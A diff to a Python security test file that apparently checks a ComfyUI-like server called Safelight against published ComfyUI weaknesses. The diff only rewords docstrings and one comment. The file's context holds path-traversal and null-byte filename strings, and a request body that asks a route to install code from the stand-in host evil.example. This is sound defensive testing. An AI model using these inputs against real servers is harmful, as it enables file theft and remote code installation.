@@ -1,4 +1,4 @@
-"""Published weaknesses of ComfyUI that touch routes which Safelight has too, each tried here. The list of them:
+"""Published weaknesses of ComfyUI in routes that Safelight has as well, each tried here. They are listed in
 ``docs/operate/security.md``."""
 
 import json
@@ -29,7 +29,7 @@ OUT = [
     "..%252fsecret.txt",
     "secret.txt\0.png",
 ]
-"""Ways out of a folder, as they stand in a query or in a prompt."""
+"""Ways out of a folder, for a query or a prompt."""
 
 
 @pytest.fixture
@@ -91,7 +91,7 @@ async def test_traversal_in_previews_of_models(client: Client, secret: Path, nam
 
 
 async def test_issue_12285_links_out_of_a_folder(client: Client, secret: Path, settings: Settings) -> None:
-    """Files are found by rows and read by digest: what lies in a folder by itself is nobody's file."""
+    """Files are found by rows and read by digest: a file that was put into a folder belongs to nobody."""
     for folder in ("input", "output", "temp", "blobs"):
         place = settings.data_dir / folder
         place.mkdir(exist_ok=True)
@@ -146,7 +146,7 @@ async def test_issue_12860_names_that_were_made_to_point_here(server: Server) ->
 
 
 async def test_cve_2025_67303_configuration_under_the_users_files(client: Client, settings: Settings) -> None:
-    """A user's files are rows of a database: none of them is a file that the server or a pack reads."""
+    """A user's files are rows of a database: the server and packs read none of them from disk."""
     files = set(settings.data_dir.rglob("*.ini")) | set(settings.data_dir.rglob("*.json"))
     for path in (
         "ComfyUI-Manager/config.ini",
@@ -170,7 +170,7 @@ async def test_cve_2024_21574_no_route_installs_code(client: Client, path: str) 
     body = {"url": "https://evil.example/x.git", "files": ["https://evil.example/x.py"], "pip": ["evil"]}
     for method in ("GET", "POST"):
         answer = await client.request(method, path, json.dumps(body).encode())
-        is_for_the_web_ui = answer.body == f"the web UI's {path}".encode()  # which serves its files, and has no routes
+        is_for_the_web_ui = answer.body == f"the web UI's {path}".encode()  # which serves files only
         assert answer.status in (404, 405) or is_for_the_web_ui
 
 
